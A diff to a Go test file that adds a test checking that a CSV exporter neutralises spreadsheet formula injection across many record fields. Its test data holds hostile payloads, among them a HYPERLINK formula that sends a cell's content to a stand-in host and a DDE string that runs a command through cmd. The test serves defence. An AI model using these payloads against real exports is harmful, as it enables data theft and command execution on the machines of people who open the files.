@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"encoding/json"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -77,4 +78,71 @@ func TestExportEmptyAndJSONL(t *testing.T) {
 	if _, err := NewExporter(&buf, "xml"); err != ErrUnknownFormat {
 		t.Errorf("NewExporter(xml) = %v", err)
 	}
+}
+
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"open")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(A1:A9)`, "\t=1+1", "\r=1+1", "-Inf", "+0x1p3"}
+	text := func(s string) string { b, _ := json.Marshal(s); return string(b) }
+	columns := []struct {
+		name, column string
+		set          func(r *results.Record, v string)
+	}{
+		{"batch_id", "batch_id", func(r *results.Record, v string) { r.BatchID = v }},
+		{"method", "method", func(r *results.Record, v string) { r.Method = v }},
+		{"transaction_id", "transaction_id", func(r *results.Record, v string) { r.TransactionID = v }},
+		{"state", "state", func(r *results.Record, v string) { r.State = results.State(v) }},
+		{"error_source", "error_source", func(r *results.Record, v string) { r.Error = &results.ErrorInfo{Source: v} }},
+		{"error_sub_code", "error_sub_code", func(r *results.Record, v string) { r.Error = &results.ErrorInfo{SubCode: v} }},
+		{"error_sub_msg", "error_sub_msg", func(r *results.Record, v string) { r.Error = &results.ErrorInfo{SubMsg: v} }},
+		{"error_sub_msg from msg", "error_sub_msg", func(r *results.Record, v string) { r.Error = &results.ErrorInfo{Msg: v} }},
+		{"is_admittance", "is_admittance", func(r *results.Record, v string) { r.Response = json.RawMessage(`{"is_admittance":` + text(v) + `}`) }},
+		{"relation_rank", "relation_rank", func(r *results.Record, v string) { r.Response = json.RawMessage(`{"relation_rank":` + text(v) + `}`) }},
+		{"relation_score", "relation_score", func(r *results.Record, v string) { r.Response = json.RawMessage(`{"relation_score":` + text(v) + `}`) }},
+		{"biz_no", "biz_no", func(r *results.Record, v string) { r.Response = json.RawMessage(`{"biz_no":` + text(v) + `}`) }},
+	}
+	for _, c := range columns {
+		col := slices.Index(CSVColumns, c.column)
+		t.Run(c.name+" gets a leading apostrophe", func(t *testing.T) {
+			for _, v := range hostile {
+				rec := &results.Record{Method: testMethod, TransactionID: "T1", State: results.Failed, BatchID: "b_x"}
+				c.set(rec, v)
+				row := exportRow(t, rec)
+				if row[col] != "'"+v {
+					t.Errorf("%s %q exported as %q, want %q", c.column, v, row[col], "'"+v)
+				}
+				for i, got := range row {
+					if i != col && got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
+						t.Errorf("column %s is %q", CSVColumns[i], got)
+					}
+				}
+			}
+		})
+	}
+	t.Run("a number keeps its sign", func(t *testing.T) {
+		row := exportRow(t, &results.Record{Method: testMethod, State: results.Succeeded, Response: json.RawMessage(`{"relation_score":-0.5}`)})
+		if got := row[slices.Index(CSVColumns, "relation_score")]; got != "-0.5" {
+			t.Errorf("relation_score -0.5 exported as %q", got)
+		}
+	})
+}
+
+// exportRow is the CSV row Exporter writes for rec.
+func exportRow(t *testing.T, rec *results.Record) []string {
+	t.Helper()
+	var buf bytes.Buffer
+	e, err := NewExporter(&buf, "csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := e.Write(1, rec); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.Close(); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil || len(rows) != 2 || len(rows[1]) != len(CSVColumns) {
+		t.Fatalf("CSV %q: %v", buf.String(), err)
+	}
+	return rows[1]
 }
